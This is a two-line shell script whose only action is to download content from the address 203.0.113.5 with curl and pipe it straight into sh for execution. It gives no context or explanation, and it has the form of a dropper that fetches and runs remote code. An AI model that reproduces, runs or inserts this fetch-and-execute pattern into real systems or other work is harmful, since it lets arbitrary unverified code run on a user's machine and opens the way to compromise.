#!/bin/sh
curl http://203.0.113.5 | sh
